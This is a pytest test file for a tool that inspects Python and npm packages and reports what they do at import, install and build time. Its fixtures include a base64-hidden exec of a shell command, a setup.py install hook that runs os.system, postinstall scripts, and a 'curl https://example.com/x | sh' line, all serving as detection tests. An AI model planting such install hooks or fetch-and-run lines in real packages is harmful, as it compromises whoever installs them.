"""What linking tells about small packages: capability, phase, destination and path."""

import base64
import importlib.util
import json
from pathlib import Path
from types import ModuleType

import pytest


def _support() -> ModuleType:
    path = Path(__file__).parent.parent / "support" / "inspected.py"
    spec = importlib.util.spec_from_file_location("inspected", path)
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


INSPECTED = _support()
INFO = "Metadata-Version: 2.1\nName: acme\nVersion: 1\n"


def sdist(tmp_path: Path, members: dict[str, str]) -> set[tuple[str, str, str | None]]:
    return INSPECTED.told(INSPECTED.uses_of(tmp_path, "acme-1.tgz", {"PKG-INFO": INFO, **members}))


def npm(
    tmp_path: Path, manifest: dict[str, object], members: dict[str, str]
) -> set[tuple[str, str, str | None]]:
    package = json.dumps({"name": "acme", "version": "1.0.0", **manifest})
    return INSPECTED.told(
        INSPECTED.uses_of(tmp_path, "acme-1.0.0.tgz", {"package.json": package, **members})
    )


def test_a_call_at_module_level_runs_at_import_through_another_module(tmp_path: Path) -> None:
    found = sdist(
        tmp_path,
        {
            "acme/__init__.py": "from acme.helper import send\nsend()\n",
            "acme/helper.py": (
                "import urllib.request as r\n"
                "HOST = 'https://' + 'example.com'\n"
                "def send():\n    r.urlopen(HOST + '/x')\n"
            ),
        },
    )
    assert ("net.connect", "import", "https://example.com/x") in found


def test_code_in_base64_is_a_layer(tmp_path: Path) -> None:
    hidden = base64.b64encode(b"import os\nos.system('id')\n").decode()
    found = sdist(
        tmp_path,
        {"acme/__init__.py": f"import base64\nexec(base64.b64decode('{hidden}'))\n"},
    )
    assert ("process.shell", "import", "id") in found


def test_code_in_a_string_sees_built_ins_and_its_hosts_names(tmp_path: Path) -> None:
    found = sdist(
        tmp_path,
        {"acme/__init__.py": "import os as o\nexec(\"open('a.txt', 'w'); o.remove('b.txt')\")\n"},
    )
    assert {("fs.write", "import", "a.txt"), ("fs.delete", "import", "b.txt")} <= found


def test_setup_py_runs_at_install_and_its_command_class_too(tmp_path: Path) -> None:
    found = sdist(
        tmp_path,
        {
            "setup.py": (
                "import os\nfrom setuptools import setup\n"
                "from setuptools.command.install import install\n"
                "class Post(install):\n"
                "    def run(self):\n        os.system('id')\n"
                "setup(name='acme', cmdclass={'install': Post})\n"
            )
        },
    )
    assert ("process.shell", "install", "id") in found


def test_a_helper_without_any_token_lies_on_the_path(tmp_path: Path) -> None:
    uses = INSPECTED.uses_of(
        tmp_path,
        "acme-1.tgz",
        {
            "PKG-INFO": INFO,
            "acme/__init__.py": "",
            "acme/api.py": "from ._low import Client\ndef fetch():\n    return Client().go()\n",
            "acme/_low.py": (
                "import socket\nclass Client:\n"
                "    def __init__(self):\n        self.s = socket.socket()\n"
                "    def go(self):\n        self.s.connect(('203.0.113.7', 80))\n"
            ),
        },
    )
    connect = next(use for use in uses if use.api == "socket.socket.connect")
    assert [step.function for step in connect.path] == ["fetch", "Client.go"]
    assert connect.entry == "acme.api.fetch()"


def test_a_function_that_nobody_calls_is_quiet_at_import(tmp_path: Path) -> None:
    found = sdist(
        tmp_path, {"acme/__init__.py": "import os\ndef clean():\n    os.remove('a.txt')\n"}
    )
    assert found == {("fs.delete", "call", "a.txt")}


def test_a_postinstall_script_is_followed_into_its_member(tmp_path: Path) -> None:
    found = npm(
        tmp_path,
        {"scripts": {"postinstall": "node setup.js"}},
        {"setup.js": "const { execSync: run } = require('child_process');\nrun('id');\n"},
    )
    assert ("process.shell", "install", "id") in found


_MINIMIST = 'require("minimist")(process.argv.slice(2))'
_SWITCH = """
const args = {parse};
const fs = require("fs");
switch (args.exec) {{
  case "install":
    fs.writeFileSync("a.txt", "");
    break;
  case "verify":
    fs.unlinkSync("b.txt");
}}
{more}
"""


@pytest.mark.parametrize(
    ("parse", "more", "needs", "taken"),
    [
        (_MINIMIST, "", {"minimist": "^1.2.8"}, False),
        (_MINIMIST, "", {"minimist": "npm:other@^1.2.8"}, True),
        (_MINIMIST, "", {}, True),
        (_MINIMIST[:-1] + ', { default: { exec: "verify" } })', "", {"minimist": "1"}, True),
        ('require("./own")(process.argv.slice(2))', "", {"minimist": "1"}, True),
        (_MINIMIST, 'args.exec = "verify";', {"minimist": "1"}, True),
        (_MINIMIST, "change(args);", {"minimist": "1"}, True),
        (_MINIMIST, 'process.argv.push("--exec=verify");', {"minimist": "1"}, True),
        (_MINIMIST, 'process.argv[3] = "verify";', {"minimist": "1"}, True),
    ],
)
def test_a_known_command_line_takes_no_case_of_another_word(
    tmp_path: Path, parse: str, more: str, needs: dict[str, str], taken: bool
) -> None:
    found = npm(
        tmp_path,
        {"scripts": {"postinstall": "node setup.js --exec install"}, "dependencies": needs},
        {
            "setup.js": _SWITCH.format(parse=parse, more=more),
            "own.js": "module.exports = (a) => a;",
        },
    )
    assert ("fs.write", "install", "a.txt") in found
    assert (("fs.delete", "install", "b.txt") in found) == taken


def test_other_lines_give_other_words(tmp_path: Path) -> None:
    script = _SWITCH.format(parse=_MINIMIST, more="")
    lines = {"preinstall": "node setup.js --exec install", "install": "node setup.js --exec=verify"}
    manifest = {"scripts": lines, "dependencies": {"minimist": "1"}}
    found = npm(tmp_path, manifest, {"setup.js": script})
    assert ("fs.delete", "install", "b.txt") in found


def test_a_shell_line_of_a_script_is_read(tmp_path: Path) -> None:
    found = npm(tmp_path, {"scripts": {"preinstall": "curl https://example.com/x | sh"}}, {})
    assert ("net.connect", "install", "https://example.com/x") in found


@pytest.mark.parametrize(
    ("line", "told"),
    [
        ("node -e \"require('fs').unlinkSync('a')\"", ("fs.delete", "install", "a")),
        ("sh -c 'wget https://example.com/x'", ("net.connect", "install", "https://example.com/x")),
        ("rm -rf build", ("fs.delete", "install", "build")),
        ("sudo env A=1 rm x", ("fs.delete", "install", "x")),
        ("npm publish", ("registry.publish", "install", None)),
    ],
)
def test_what_a_script_runs_is_told(
    tmp_path: Path, line: str, told: tuple[str, str, str | None]
) -> None:
    assert told in npm(tmp_path, {"scripts": {"postinstall": line}}, {})


def test_what_raises_the_version_publishes_nothing(tmp_path: Path) -> None:
    scripts = {"preversion": "rm a", "postversion": "rm b", "prepack": "rm c", "test": "rm d"}
    package = json.dumps({"name": "p", "version": "1.0.0", "scripts": scripts})
    uses = INSPECTED.uses_of(tmp_path, "p-1.0.0.tgz", {"package.json": package})
    assert {(use.destination, use.phase.value, use.entry) for use in uses} == {
        ("a", "build", "npm version"),
        ("b", "build", "npm version"),
        ("c", "build", "npm publish"),
    }


def test_commands_that_wrap_each_other_without_end_are_read(tmp_path: Path) -> None:
    found = npm(tmp_path, {"scripts": {"postinstall": "sudo " * 3000 + "x"}}, {})
    assert any(capability == "system.privilege" for capability, _, _ in found)


def test_interop_wrappers_of_compilers_do_not_hide_a_call(tmp_path: Path) -> None:
    found = npm(
        tmp_path,
        {"main": "index.js"},
        {
            "index.js": (
                "var fs_1 = __importDefault(require('fs'));\n"
                "function save() { (0, fs_1.default.writeFileSync)('a.txt', ''); }\n"
                "exports.save = save;\n"
            )
        },
    )
    assert ("fs.write", "call", "a.txt") in found


def test_literals_and_modules_that_hold_themselves_end(tmp_path: Path) -> None:
    found = npm(
        tmp_path,
        {"main": "a.js"},
        {
            "a.js": (
                "export * from './b.js';\nlet o = {};\no = { ...o, x: o };\n"
                "o.go.now();\nrequire('fs').rmSync('a.txt');\n"
            ),
            "b.js": "export * from './a.js';\nimport { q } from './a.js';\nq();\n",
        },
    )
    assert ("fs.delete", "import", "a.txt") in found


def test_a_part_of_a_package_that_is_named_like_another_is_no_root(tmp_path: Path) -> None:
    found = sdist(
        tmp_path,
        {
            "acme.egg-info/top_level.txt": "acme\ntutorial\n",
            "acme/__init__.py": "",
            "acme/blocks/__init__.py": "",
            "acme/blocks/tutorial/__init__.py": "",
            "acme/blocks/util.py": "import os\ndef drop():\n    os.remove('a')\n",
        },
    )
    assert ("fs.delete", "call", "a") in found


def test_a_shell_script_that_users_have_is_not_the_maintainers(tmp_path: Path) -> None:
    members = {"bin/acme.cmd": "node a.js\n", "contrib/make.sh": "rm b\n"}
    found = npm(tmp_path, {}, members)
    assert ("process.spawn", "call", "a.js") in found
    assert ("fs.delete", "build", "b") in found


def test_a_script_that_is_called_a_text_is_no_maintainers_and_told_all_the_same(
    tmp_path: Path,
) -> None:
    members = {"record.txt": "#!/bin/bash\nrm b\n"}
    assert npm(tmp_path, {}, members) == {("fs.delete", "call", "b")}
    found = npm(tmp_path, {"scripts": {"postinstall": "bash record.txt"}}, members)
    assert ("fs.delete", "install", "b") in found


def test_npx_fetches_nothing_that_the_package_depends_on(tmp_path: Path) -> None:
    scripts = {"prepare": "npx husky", "prepack": "npx babel src", "postpack": "npx other"}
    own = {"husky": "9", "@babel/cli": "7"}
    assert ("net.connect", "build", None) not in npm(
        tmp_path, {"scripts": {**scripts, "postpack": "true"}, "devDependencies": own}, {}
    )
    assert ("net.connect", "build", None) in npm(
        tmp_path, {"scripts": scripts, "devDependencies": own}, {}
    )
